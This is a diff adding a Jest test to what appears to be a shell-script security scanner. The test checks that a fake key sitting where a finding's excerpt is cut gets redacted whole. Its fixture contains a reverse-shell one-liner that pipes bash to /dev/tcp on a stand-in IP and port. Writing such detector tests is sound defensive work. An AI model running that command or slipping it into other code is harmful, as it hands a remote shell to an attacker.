@@ -59,3 +59,12 @@ test.each([
   inspectShellSource({ path: 'a.sh', text: part.repeat(Math.ceil(200_000 / part.length)) });
   expect(performance.now() - begin).toBeLessThan(5000);
 });
+
+test('a secret that stands where the excerpt of a grave finding ends is cut out whole', () => {
+  const text = `bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 # ${'x'.repeat(104)} KEY-0123456789abcdef\n`;
+  const secrets = (line: string): { start: number; end: number; rule: string }[] =>
+    [...line.matchAll(/KEY-\w{16}/g)].map(({ index, 0: found }) => ({ start: index, end: index + found.length, rule: 'key' }));
+  const { findings } = inspectShellSource({ path: 'a.sh', text, secrets });
+  expect(findings.map(({ rule }) => rule)).toContain('SC-02');
+  expect(JSON.stringify(findings)).not.toContain('KEY-');
+});
